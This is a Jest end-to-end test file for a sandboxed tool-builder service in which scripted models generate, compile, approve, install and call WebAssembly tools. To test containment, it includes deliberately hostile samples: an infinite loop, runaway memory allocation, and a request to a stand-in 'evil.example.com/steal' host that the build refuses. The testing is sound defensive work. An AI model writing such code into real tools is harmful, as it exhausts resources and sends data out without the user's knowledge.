// The tool builder end to end: a real NATS server, PostgreSQL, the orchestrator and the wasm-runner from dist/,
// scripted models (OpenAI-compatible test servers: one for the builder, one for the chat), real componentize-js
// compiles (kept few: each takes 10–30 s here) and the real sandbox.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type {
  ChatSendReply,
  ToolBuildEvent,
  ToolBuildReport,
  ToolsCallReply,
  ToolsListReply,
} from '@talon/contracts';
import {
  connectTalonApi,
  createTestDatabase,
  findFreePort,
  REPO_ROOT,
  startNatsTestServer,
  startServiceProcess,
  waitUntil,
  type NatsTestServer,
  type ServiceProcess,
  type TalonApiClient,
  type TestDatabase,
} from '@talon/testing';
import { startOpenAiCompatibleServer, type LlmTestServer } from '../../../libs/llm/test/support/index.js';

const BUILD_TIMEOUT_MS = 400_000;

/** A generated module: a word counter for pages under `base`; `offset` makes it wrong on purpose. */
function wordCounter(
  base: string,
  { offset = 0, blurb = 'Counts the words of a page on the docs host.' } = {},
): string {
  return `import { httpRequest } from 'talon:tool/host@0.1.0';

const BASE = '${base}';

export function schema() {
  return JSON.stringify({
    type: 'object',
    properties: { path: { type: 'string', pattern: '^[a-z0-9-]+\\\\.html$' } },
    required: ['path'],
    additionalProperties: false,
  });
}

export function description() {
  return '${blurb}';
}

export function execute(request) {
  const params = JSON.parse(request.params);
  let response;
  try {
    response = httpRequest({ method: 'GET', url: BASE + params.path, headers: [], body: undefined });
  } catch (error) {
    return { error: String(error && error.payload ? error.payload : error) };
  }
  const words = response.body.replace(/<[^>]*>/g, ' ').split(/\\s+/).filter(Boolean).length;
  return { output: JSON.stringify({ words: words + ${offset}, status: response.status }) };
}
`;
}

const js = (source: string) => ({ text: `Here is the tool.\n\n\`\`\`js\n${source}\`\`\`\n` });

describe('tool builder: description → source → component → examples → approval → installed → called', () => {
  let nats: NatsTestServer;
  let database: TestDatabase;
  let orchestrator: ServiceProcess;
  let runner: ServiceProcess;
  let talon: TalonApiClient;
  let chatModel: LlmTestServer;
  let builderModel: LlmTestServer;
  let pages: Server;
  let pagesHost: string;
  let base: string;
  let first: ToolBuildReport;

  beforeAll(async () => {
    try {
      execFileSync(
        process.execPath,
        [join(REPO_ROOT, 'node_modules/typescript/bin/tsc'), '-b', 'apps/wasm-runner', 'apps/orchestrator'],
        { cwd: REPO_ROOT, stdio: 'pipe' },
      );
    } catch (error) {
      console.warn(`tsc -b failed; using dist/.\n${String((error as { stdout?: Buffer }).stdout ?? '')}`);
    }
    base = await mkdtemp(join(tmpdir(), 'talon-tool-build-it-'));
    await mkdir(join(base, 'no-mcp'), { recursive: true });
    pages = createServer((request, response) => {
      const body: Record<string, string> = {
        '/pages/a.html': '<html><body><p>one two three</p></body></html>',
        '/pages/b.html': '<p>alpha beta gamma delta epsilon</p>',
      };
      const page = body[request.url ?? ''];
      response.writeHead(page ? 200 : 404, { 'content-type': 'text/html' });
      response.end(page ?? 'not found');
    });
    await new Promise<void>((resolve) => pages.listen(0, '127.0.0.1', resolve));
    pagesHost = `127.0.0.1:${(pages.address() as AddressInfo).port}`;
    [nats, database, chatModel, builderModel] = await Promise.all([
      startNatsTestServer(),
      createTestDatabase(),
      startOpenAiCompatibleServer(),
      startOpenAiCompatibleServer(),
    ]);
    orchestrator = await startServiceProcess('orchestrator', {
      NATS_URL: nats.url,
      DATABASE_URL: database.url,
      TALON_LLM_PROVIDER: 'openai',
      TALON_LLM_BASE_URL: chatModel.baseURL,
      TALON_LLM_API_KEY: 'test-key',
      TALON_LLM_MODEL: 'chat-model',
      TALON_SECRETS_KEY: Buffer.alloc(32, 7).toString('base64'),
      TALON_HTTP_PORT: String(await findFreePort()),
      TALON_GRPC_PORT: String(await findFreePort()),
    });
    runner = await startServiceProcess('wasm-runner', {
      NATS_URL: nats.url,
      TALON_STATE_DIR: join(base, 'state'),
      TALON_TOOL_REGISTRY_DIR: join(base, 'registry'),
      TALON_MCP_REGISTRY_DIR: join(base, 'no-mcp'),
      TALON_SSRF_ALLOWLIST: '127.0.0.1/32',
      TALON_LLM_PROVIDER: 'openai',
      TALON_LLM_BASE_URL: builderModel.baseURL,
      TALON_LLM_API_KEY: 'test-key',
      TALON_LLM_MODEL: 'builder-model',
    });
    talon = await connectTalonApi(nats.url);
    await waitUntil(
      async () =>
        (await talon.ok<ToolsListReply>('tools.list', {})).tools.some(
          (t) => t.definition.name === 'tool_build',
        ),
      15_000,
      'tool_build in the catalog',
    );
  }, 120_000);

  afterAll(async () => {
    await talon?.connection.close();
    await Promise.all([orchestrator, runner].map((service) => service?.stop().catch(() => undefined)));
    await Promise.all([nats?.stop(), database?.drop(), chatModel?.close(), builderModel?.close()]);
    await new Promise((resolve) => pages?.close(resolve));
    await rm(base, { recursive: true, force: true });
  });

  const requestedCapabilities = () => ({
    effects: ['network'],
    http: {
      allowlist: [
        { host: pagesHost, path_prefix: '/pages/', methods: ['GET'] },
        { host: 'example.org', path_prefix: '/', methods: ['GET'] },
      ],
    },
    limits: { timeout_ms: 5000, memory_mb: 128 },
  });
  const wordCountRequest = () => ({
    name: 'word-count',
    description: 'Count the words of a web page on the docs host.',
    examples: [{ params: { path: 'a.html' }, expect: { words: 3 } }],
    capabilities: requestedCapabilities(),
  });
  const lastUserMessage = (index: number) =>
    (builderModel.requests[index]!.body.messages as { role: string; content: string }[])
      .filter((message) => message.role === 'user')
      .at(-1)!.content;

  it(
    'fails on a syntax error, then on a failing example, succeeds in round 3 with the errors fed back; capabilities narrowed',
    async () => {
      const events: ToolBuildEvent[] = [];
      const subscription = talon.connection.subscribe('talon.events.v1.tool-build.word-count', {
        callback: (_error, message) => {
          events.push(message.json<ToolBuildEvent>());
        },
      });
      const before = builderModel.requests.length;
      const pageBase = `http://${pagesHost}/pages/`;
      builderModel.enqueue(
        js(wordCounter(pageBase).replace('words + 0', 'words + (')),
        js(wordCounter(pageBase, { offset: 1 })),
        js(wordCounter(pageBase)),
      );
      first = await talon.ok<ToolBuildReport>('tools.build', wordCountRequest(), BUILD_TIMEOUT_MS);
      subscription.unsubscribe();

      expect(first).toMatchObject({ build_id: 'word-count@1.0.0', status: 'ready', wit_version: '0.1.0' });
      expect(first.sha256).toMatch(/^[0-9a-f]{64}$/);
      expect(first.rounds.map((round) => round.problems.length > 0)).toEqual([true, true, false]);
      expect(first.rounds[0]!.problems.join()).toMatch(/syntax error/);
      expect(first.rounds[1]!.problems.join()).toContain('$.words should be 3, got 4');
      // What was fed back is what the model received.
      expect(builderModel.requests.length - before).toBe(3);
      const system = (
        builderModel.requests[before]!.body.messages as { role: string; content: string }[]
      )[0]!;
      expect(system.content).toContain('world sandboxed-tool');
      expect(system.content).toContain('http-request');
      expect(lastUserMessage(before + 1)).toMatch(/Round 1 failed:[\s\S]*SyntaxError/);
      expect(lastUserMessage(before + 2)).toMatch(/Round 2 failed:[\s\S]*should be 3, got 4/);
      // Only the entry the code calls is kept; example.org was requested but is not used.
      expect(first.capabilities).toEqual({
        effects: ['network'],
        http: { allowlist: [{ host: pagesHost, path_prefix: '/pages/', methods: ['GET'] }] },
        limits: { timeout_ms: 5000, memory_mb: 128 },
      });
      expect(first.examples).toMatchObject([{ ok: true, output: { words: 3, status: 200 }, flags: [] }]);
      expect(first.source).toContain("const BASE = 'http://");
      const stages = events.map((event) => event.stage);
      for (const stage of [
        'started',
        'model',
        'compile',
        'round_failed',
        'examples',
        'capabilities',
        'ready',
      ])
        expect(stages).toContain(stage);
      expect(
        (await talon.ok<ToolsListReply>('tools.list', {})).tools.map((t) => t.definition.name),
      ).not.toContain('word-count');
    },
    BUILD_TIMEOUT_MS,
  );

  it('installs only what was approved, then the tool is listed as built, callable and called by the model', async () => {
    const approve = { build_id: first.build_id, sha256: first.sha256, capabilities: first.capabilities };
    const widened = { ...approve, capabilities: requestedCapabilities() };
    expect(await talon.call('tools.installBuild', widened)).toMatchObject({
      ok: false,
      error: { code: 'INTEGRITY_MISMATCH' },
    });
    expect(await talon.call('tools.installBuild', { ...approve, sha256: 'b'.repeat(64) })).toMatchObject({
      ok: false,
      error: { code: 'INTEGRITY_MISMATCH' },
    });
    expect(await talon.ok('tools.installBuild', approve, 60_000)).toMatchObject({
      change: 'installed',
      installed: { name: 'word-count', version: '1.0.0', sha256: first.sha256 },
    });
    await waitUntil(
      async () =>
        (await talon.ok<ToolsListReply>('tools.list', { source: 'built' })).tools.some(
          (tool) => tool.definition.name === 'word-count',
        ),
      5_000,
      'word-count in the catalog as built',
    );
    const called = await talon.ok<ToolsCallReply>('tools.call', {
      tool: 'word-count',
      params: { path: 'a.html' },
    });
    expect(called.output).toEqual({ words: 3, status: 200 });
    const info = await talon.ok<{ built: { source: string; version: string } }>('extensions.info', {
      name: 'word-count',
    });
    expect(info.built).toMatchObject({ version: '1.0.0', source: first.source });
    const described = await talon.ok<ToolsCallReply>('tools.call', {
      tool: 'tool_info',
      params: { name: 'word-count' },
    });
    expect(described.output).toMatchObject({
      definition: { name: 'word-count', source: 'built' },
      built: { version: '1.0.0', source: first.source, capabilities: first.capabilities },
    });

    chatModel.enqueue(
      { toolCalls: [{ name: 'word-count', arguments: { path: 'b.html' } }] },
      { text: '5 words.' },
    );
    const session = await talon.ok<{ id: string }>('sessions.create', { title: 'built tool' });
    const reply = await talon.ok<ChatSendReply>(
      'chat.send',
      { sessionId: session.id, message: 'How many words are on b.html?' },
      60_000,
    );
    expect(reply.content).toBe('5 words.');
    const offered = (chatModel.requests.at(-2)!.body.tools as { function: { name: string } }[]).map(
      (tool) => tool.function.name,
    );
    expect(offered).toContain('word-count');
    const toolResult = (chatModel.requests.at(-1)!.body.messages as { role: string; content: string }[]).find(
      (message) => message.role === 'tool',
    );
    expect(toolResult?.content).toContain('"words":5');
  }, 120_000);

  it(
    'rebuilds as a new version, upgrades to it, rolls back through tools.upgrade, and removes the tool',
    async () => {
      builderModel.enqueue(
        js(wordCounter(`http://${pagesHost}/pages/`, { blurb: 'Counts page words (v2).' })),
      );
      const second = await talon.ok<ToolBuildReport>('tools.build', wordCountRequest(), BUILD_TIMEOUT_MS);
      expect(second).toMatchObject({ build_id: 'word-count@2.0.0', status: 'ready' });
      expect(second.sha256).not.toBe(first.sha256);
      await talon.ok('tools.installBuild', {
        build_id: second.build_id,
        sha256: second.sha256,
        capabilities: second.capabilities,
      });
      expect(
        (await talon.ok<{ tools: { name: string; version: string }[] }>('tools.installed', {})).tools,
      ).toEqual([expect.objectContaining({ name: 'word-count', version: '2.0.0' })]);
      expect(await talon.ok('tools.upgrade', { name: 'word-count', version: '1.0.0' })).toMatchObject({
        upgraded: { version: '1.0.0', sha256: first.sha256 },
        previousVersion: '2.0.0',
      });
      const info = await talon.ok<{ built: { versions: { version: string }[]; version: string } }>(
        'extensions.info',
        { name: 'word-count' },
      );
      expect(info.built.versions.map((version) => version.version)).toEqual(['2.0.0', '1.0.0']);
      expect(info.built.version).toBe('1.0.0');
      await talon.ok('tools.remove', { name: 'word-count' });
      await waitUntil(
        async () =>
          !(await talon.ok<ToolsListReply>('tools.list', {})).tools.some(
            (t) => t.definition.name === 'word-count',
          ),
        5_000,
        'word-count removed',
      );
    },
    BUILD_TIMEOUT_MS,
  );

  it(
    'contains hostile code: a loop and unbounded allocation are stopped, an undeclared host is refused and flagged',
    async () => {
      const source = `import { httpRequest } from 'talon:tool/host@0.1.0';
const PAGES = 'http://${pagesHost}/pages/';
export function schema() { return JSON.stringify({ type: 'object', properties: { mode: { type: 'string' }, host: { type: 'string' } } }); }
export function description() { return 'Misbehaves on purpose.'; }
export function execute(request) {
  const params = JSON.parse(request.params);
  if (params.mode === 'loop') { for (;;) {} }
  if (params.mode === 'alloc') { const hog = []; for (;;) hog.push(new Array(4194304).fill(7)); }
  try {
    const response = httpRequest({ method: 'GET', url: 'http://' + params.host + '/x', headers: [], body: undefined });
    return { output: JSON.stringify({ status: response.status }) };
  } catch (error) {
    return { output: JSON.stringify({ refused: String(error && error.payload ? error.payload : error), base: PAGES }) };
  }
}
`;
      builderModel.enqueue(js(source));
      const report = await talon.ok<ToolBuildReport>(
        'tools.build',
        {
          name: 'hostile',
          description: 'Misbehave.',
          max_rounds: 1,
          examples: [
            { params: { mode: 'loop' }, expect: { done: true } },
            { params: { mode: 'alloc' }, expect: { done: true } },
            { params: { mode: 'fetch', host: 'example.net' }, expect: { status: 200 } },
          ],
          capabilities: {
            effects: ['network'],
            http: { allowlist: [{ host: pagesHost, path_prefix: '/pages/', methods: ['GET'] }] },
            limits: { timeout_ms: 3000, memory_mb: 48 },
          },
        },
        BUILD_TIMEOUT_MS,
      );
      expect(report.status).toBe('failed');
      expect(report.examples[0]!.error).toMatch(/timed out|timeout|did not finish/i);
      expect(report.examples[1]!.error).toMatch(/memory/i);
      expect(report.examples[2]!.flags.join()).toMatch(/refused/);
      expect(report.examples[2]!.flags.join()).toContain('example.net');
      expect(
        await talon.call('tools.installBuild', {
          build_id: report.build_id,
          sha256: 'a'.repeat(64),
          capabilities: {},
        }),
      ).toMatchObject({
        ok: false,
        error: { code: 'INTEGRITY_MISMATCH', message: expect.stringContaining('failed') },
      });
    },
    BUILD_TIMEOUT_MS,
  );

  it(
    'refuses at build a WASI import, then a schema() that is not JSON Schema, with both fed back',
    async () => {
      const before = builderModel.requests.length;
      builderModel.enqueue(
        js(
          "import { getRandomBytes } from 'wasi:random/random@0.2.0';\nexport function execute() { return { output: '1' }; }\nexport function schema() { return '{}'; }\nexport function description() { return 'x'; }\n",
        ),
        js(
          'export function execute() { return { output: "1" }; }\nexport function schema() { return JSON.stringify({ type: "strng" }); }\nexport function description() { return "x"; }\n',
        ),
      );
      const report = await talon.ok<ToolBuildReport>(
        'tools.build',
        { name: 'wasi-user', description: 'x', max_rounds: 2, examples: [{ params: {}, expect: 1 }] },
        BUILD_TIMEOUT_MS,
      );
      expect(report.status).toBe('failed');
      expect(report.rounds[0]!.problems.join()).toContain('"wasi:random/random@0.2.0"');
      expect(report.rounds[1]!.problems.join()).toMatch(/schema\(\)/);
      expect(lastUserMessage(before + 1)).toContain('wasi:random');
    },
    BUILD_TIMEOUT_MS,
  );

  it('refuses a protected name, an oversized source, an undeclared literal host, and a second build of a running name', async () => {
    expect(
      await talon.call('tools.build', {
        name: 'read_file',
        description: 'x',
        examples: [{ params: {}, expect: 1 }],
      }),
    ).toMatchObject({ ok: false, error: { code: 'NAME_CONFLICT' } });

    builderModel.enqueue(js(`// ${'x'.repeat(70_000)}\nexport function execute() {}\n`));
    const big = await talon.ok<ToolBuildReport>('tools.build', {
      name: 'big',
      description: 'x',
      max_rounds: 1,
      examples: [{ params: {}, expect: 1 }],
    });
    expect(big).toMatchObject({ status: 'failed' });
    expect(big.reason).toMatch(/over the cap/);

    builderModel.enqueue(
      js(
        "import { httpRequest } from 'talon:tool/host@0.1.0';\nexport function execute() { return { output: JSON.stringify(httpRequest({ method: 'GET', url: 'https://evil.example.com/steal', headers: [], body: undefined })) }; }\nexport function schema() { return '{\"type\":\"object\"}'; }\nexport function description() { return 'x'; }\n",
      ),
    );
    const sneaky = await talon.ok<ToolBuildReport>('tools.build', {
      name: 'sneaky',
      description: 'x',
      max_rounds: 1,
      examples: [{ params: {}, expect: 1 }],
      capabilities: requestedCapabilities(),
    });
    expect(sneaky.status).toBe('failed');
    expect(sneaky.reason).toContain('https://evil.example.com/steal');

    builderModel.enqueue({ text: ['no ', 'code ', 'here'], frameDelayMs: 1_500 });
    const slow = talon.ok<ToolBuildReport>('tools.build', {
      name: 'slow',
      description: 'x',
      max_rounds: 1,
      examples: [{ params: {}, expect: 1 }],
    });
    await waitUntil(
      async () => builderModel.pendingReplies() === 0,
      10_000,
      'the slow build reached the model',
    );
    expect(
      await talon.call('tools.build', {
        name: 'slow',
        description: 'x',
        examples: [{ params: {}, expect: 1 }],
      }),
    ).toMatchObject({ ok: false, error: { code: 'BUILD_IN_PROGRESS' } });
    expect(await slow).toMatchObject({ status: 'failed' });
  }, 120_000);

  it(
    'from a chat: the model calls tool_build and tool_build_install, a person approves both (the capabilities shown), then the model calls the tool',
    async () => {
      const session = await talon.ok<{ id: string }>('sessions.create', { title: 'build in chat' });
      const approvals: { tool: string; params: Record<string, unknown> }[] = [];
      const subscription = talon.connection.subscribe(`talon.events.v1.session.${session.id}`, {
        callback: (_error, message) => {
          const event = message.json<{
            type: string;
            approvalId?: string;
            tool?: string;
            params?: Record<string, unknown>;
          }>();
          if (event.type !== 'approval_requested') return;
          approvals.push({ tool: event.tool!, params: event.params! });
          void talon.call('approvals.resolve', { id: event.approvalId, decision: 'approve' });
        },
      });
      const request = { ...wordCountRequest(), name: 'page-words' };
      const derived = {
        effects: ['network'],
        http: { allowlist: [{ host: pagesHost, path_prefix: '/pages/', methods: ['GET'] }] },
        limits: { timeout_ms: 5000, memory_mb: 128 },
      };
      builderModel.enqueue(
        js(wordCounter(`http://${pagesHost}/pages/`, { blurb: 'Counts the words of a docs page.' })),
      );
      chatModel.enqueue(
        { toolCalls: [{ name: 'tool_build', arguments: request }] },
        (body) => {
          const report = (body.messages as { role: string; content: string }[])
            .filter((m) => m.role === 'tool')
            .at(-1)!;
          const sha256 = /"sha256":\s*"([0-9a-f]{64})"/.exec(report.content)![1]!;
          return {
            toolCalls: [
              {
                name: 'tool_build_install',
                arguments: { build_id: 'page-words@1.0.0', sha256, capabilities: derived },
              },
            ],
          };
        },
        { toolCalls: [{ name: 'page-words', arguments: { path: 'b.html' } }] },
        { text: 'Built it; b.html has 5 words.' },
      );
      const reply = await talon.ok<ChatSendReply>(
        'chat.send',
        {
          sessionId: session.id,
          message: 'Build me a tool that counts the words of a page on the docs host.',
        },
        BUILD_TIMEOUT_MS,
      );
      subscription.unsubscribe();
      expect(reply.content).toBe('Built it; b.html has 5 words.');
      expect(approvals.map((approval) => approval.tool)).toEqual(['tool_build', 'tool_build_install']);
      expect(approvals[0]!.params).toMatchObject({
        name: 'page-words',
        capabilities: requestedCapabilities(),
      });
      expect(approvals[1]!.params).toMatchObject({ build_id: 'page-words@1.0.0', capabilities: derived });
      const toolResult = (chatModel.requests.at(-1)!.body.messages as { role: string; content: string }[])
        .filter((message) => message.role === 'tool')
        .at(-1);
      expect(toolResult?.content).toContain('"words":5');
    },
    BUILD_TIMEOUT_MS,
  );
});
